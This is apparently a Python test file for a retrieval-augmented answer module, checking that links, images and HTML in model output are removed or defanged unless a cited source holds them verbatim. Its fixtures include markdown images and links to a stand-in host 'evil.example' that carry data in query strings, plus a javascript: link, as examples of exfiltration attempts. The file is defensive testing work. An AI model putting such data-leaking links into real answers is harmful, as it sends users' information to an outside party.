"""Links, images and addresses in what the model writes (rag.answer.links): none
leaves unless a cited source holds it verbatim, and the streamed draft holds none."""

from __future__ import annotations

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from rag.answer.citations import parse_citations
from rag.answer.links import HTML, UNTRUSTED_URL, DraftGuard, defang, strip_untrusted

SOURCE = "Le formulaire est sur https://intranet.example/conges et [le guide](https://intranet.example/guide)."
EVIL = "evil.example"


@pytest.mark.parametrize(
    ("text", "kept", "removed"),
    [
        (
            "Cinq jours ![](https://evil.example/?d=cinq-jours) [1].",
            "Cinq jours [1].",
            ["![](https://evil.example/?d=cinq-jours)"],
        ),
        (
            "Voir [le guide](https://evil.example/g?d=1) pour la suite.",
            "Voir le guide pour la suite.",
            ["[le guide](https://evil.example/g?d=1)"],
        ),
        ("Adresse : https://evil.example/a?d=x.", "Adresse :.", ["https://evil.example/a?d=x"]),
        ("Voir www.evil.example/x?d=1 ici.", "Voir ici.", ["www.evil.example/x?d=1"]),
        ("Voir <https://evil.example/x> ici.", "Voir ici.", ["https://evil.example/x"]),
        ("Voir xhttps://evil.example/x ici.", "Voir x ici.", ["https://evil.example/x"]),
        ("Voir (https://evil.example/a_(b)) ici.", "Voir ici.", ["https://evil.example/a_(b)"]),
        ("[a](//evil.example/x) et [b](javascript:alert(1))", "a et b", None),
        ('![x](<https://evil.example/a b> "t") fin', "fin", None),
        ("[![](https://evil.example/i)](https://evil.example/l)", "", None),
    ],
)
def test_addresses_no_cited_source_holds_are_taken_out(
    text: str, kept: str, removed: list[str] | None
) -> None:
    cleaned = strip_untrusted(text, [SOURCE])
    assert cleaned.text == kept
    assert EVIL not in cleaned.text and "javascript" not in cleaned.text
    assert all(reason == UNTRUSTED_URL for _, reason in cleaned.removed)
    if removed is not None:
        assert [what for what, _ in cleaned.removed] == removed


def test_an_address_a_cited_source_holds_verbatim_stays() -> None:
    text = (
        "Le formulaire est sur https://intranet.example/conges, voir "
        "[le guide](https://intranet.example/guide) ![](https://intranet.example/guide)."
    )
    assert strip_untrusted(text, [SOURCE]).text == text
    assert strip_untrusted(text, []).text == "Le formulaire est sur, voir le guide."
    # Verbatim means the whole address: data added to a trusted one is not trusted.
    added = (
        "Voir https://intranet.example/conges?d=secret et [g](https://intranet.example/guide/x)."
    )
    cleaned = strip_untrusted(added, [SOURCE])
    assert "intranet" not in cleaned.text and len(cleaned.removed) == 2


def test_html_tags_are_removed_and_a_cut_one_cannot_open() -> None:
    text = '<img src="&#104;ttps://evil.example/x"> ok <b>gras</b> 5 < 7, <img src=x'
    cleaned = strip_untrusted(text)
    assert cleaned.text == "ok gras 5 < 7, ‹img src=x"
    assert [reason for _, reason in cleaned.removed] == [HTML, HTML, HTML]
    assert "<img" not in cleaned.text and "<b>" not in cleaned.text


def test_plain_answers_and_citations_are_untouched() -> None:
    for text in (
        "Le mariage donne droit à 5 jours [1][W2]. Les data: 3 < 4 [1, 2]!",
        "Note:http: rien. Metadata:x. 2 [W1-W2] et [3].",
        "Si a < b et b > c, alors (voir [2]) : 4 < 5 [1].",
    ):
        assert strip_untrusted(text).text == text and not strip_untrusted(text).removed


def test_removed_text_is_defanged() -> None:
    """`removed` shows what was taken out, in a form no client renders as a link."""
    shown = defang("![a](https://evil.example/?d=1) www.evil.example //evil.example/x <img src=x>")
    assert shown == (
        "![a] (https[:]//evil.example/?d=1) www[.]evil.example [/]/evil.example/x ‹img src=x>"
    )


def test_a_markdown_image_survives_citation_parsing_whole() -> None:
    """parse_citations moves a marker after a full stop into its sentence: the `!` of
    an image is no full stop, or the image would be broken up before it is found."""
    parsed = parse_citations("Cinq jours ![](https://evil.example/?d=5) [1]. Oui. [1]", 1)
    assert "![](https://evil.example/?d=5)" in parsed.statements[0].text
    assert parsed.statements[0].sources == [1]
    assert parsed.text.endswith("Oui [1].")


# -- the streamed draft ----------------------------------------------------------------------

INJECTED = (
    "Le mariage donne droit à 5 jours ![](https://evil.example/?d=5-jours) [1]. Voir "
    "[le site](https://evil.example/l?d=x) ou www.evil.example/w et "
    '<img src="https://evil.example/i" alt="x"> aussi //evil.example/p fin [1].'
)


def stream(text: str, cuts: list[int]) -> list[str]:
    guard = DraftGuard()
    pieces, last = [], 0
    for cut in [*sorted(set(cuts)), len(text)]:
        pieces.append(guard.feed(text[last:cut]))
        last = cut
    return [*pieces, guard.flush()]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.integers(0, len(INJECTED)), max_size=60))
def test_the_streamed_draft_never_carries_an_address(cuts: list[int]) -> None:
    shown = "".join(stream(INJECTED, cuts))
    assert EVIL not in shown and "<img" not in shown and "http" not in shown
    assert shown.startswith("Le mariage donne droit à 5 jours")
    assert shown.endswith("fin [1].")


@settings(max_examples=200, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list("abc éà12.,;:!?[]()-'\n")), max_size=120),
    st.lists(st.integers(0, 120), max_size=30),
)
def test_a_plain_draft_streams_as_written(text: str, cuts: list[int]) -> None:
    # "[]()" and the like are links (shown as their label): not a plain draft.
    assume("](" not in text)
    assert "".join(stream(text, [c for c in cuts if c <= len(text)])) == text


def test_the_stream_holds_back_only_a_word_or_an_open_link() -> None:
    guard = DraftGuard()
    assert guard.feed("Le") == "" and guard.feed(" mariage") == "Le"
    assert guard.feed(" donne [le") == " mariage donne"
    assert guard.feed(" guide](https://evil.") == ""
    assert guard.feed("example/x) et") == " le guide"
    assert guard.flush() == " et"


def test_the_page_has_a_label_for_every_removal_reason() -> None:
    import re
    from pathlib import Path

    from rag.answer.verify import NO_QUANTITY, OFF_TOPIC, RESTATES, UNSUPPORTED

    script = (Path(__file__).parents[1] / "api" / "static" / "app.js").read_text("utf-8")
    block = script[script.index("const REMOVAL_REASONS") :].split("\n};", 1)[0]
    labelled = set(re.findall(r"^  (\w+): \{", block, re.MULTILINE))
    assert labelled == {UNSUPPORTED, OFF_TOPIC, RESTATES, NO_QUANTITY, UNTRUSTED_URL, HTML}
